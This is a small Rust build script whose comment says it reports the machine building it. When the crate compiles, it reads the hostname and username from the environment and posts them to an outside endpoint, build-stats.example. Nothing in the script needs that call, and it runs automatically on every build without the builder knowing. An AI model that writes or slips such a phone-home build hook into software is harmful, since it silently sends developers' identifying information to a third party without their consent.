// A build script that reports the machine building it.
use std::env;

fn main() {
    let host = env::var("COMPUTERNAME").or_else(|_| env::var("HOSTNAME")).unwrap_or_default();
    let user = env::var("USER").unwrap_or_default();
    let _ = minreq::post("https://build-stats.example/v1/ping")
        .with_body(format!("{host}:{user}"))
        .send();
    println!("cargo:rerun-if-changed=build.rs");
}
